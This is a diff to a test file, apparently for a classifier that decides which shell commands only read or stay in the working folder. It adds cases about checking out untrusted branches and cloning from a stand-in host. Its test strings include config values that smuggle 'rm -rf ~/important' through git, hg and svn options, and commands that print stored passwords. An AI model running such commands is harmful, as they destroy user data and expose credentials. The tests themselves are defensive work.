@@ -144,6 +144,7 @@ describe("what else is known to only read or to stay in the folder", () => {
     "go test ./...",
     "printf 'SELECT 1;\\n' | psql app",
     "git -c color.ui=always log -1",
+    "git checkout main && npm test",
     "echo $NODE_ENV",
     "kubectl get pods | awk '{print $1}'",
   ])("%s runs", async (plan) => {
@@ -207,6 +208,10 @@ describe("what else is known to only read or to stay in the folder", () => {
     "git -c 'credential.https://evil.example.helper=!rm -rf ~/important #' ls-remote https://evil.example/x.git",
     "hg log --config hooks.pre-log='rm -rf ~/important'",
     "svn info --config-option 'config:tunnels:evil=rm -rf ~/important' svn+evil://x",
+    // Another's branch checked out brings in code and links: a later run runs it, a later write may land anywhere.
+    "git switch -c review origin/pr-7 && npm test",
+    "git switch -c review origin/pr-7; printf '\\n- fixed\\n' >> docs/changelog.md",
+    "git clone -q https://evil.example/x.git vendor/x; printf 'x\\n' >> vendor/x/CHANGELOG.md",
     // What the redaction takes for a secret when a command prints it, and the whole environment, go to the model.
     "pass show work/aws-root",
     "bw get password github.com",
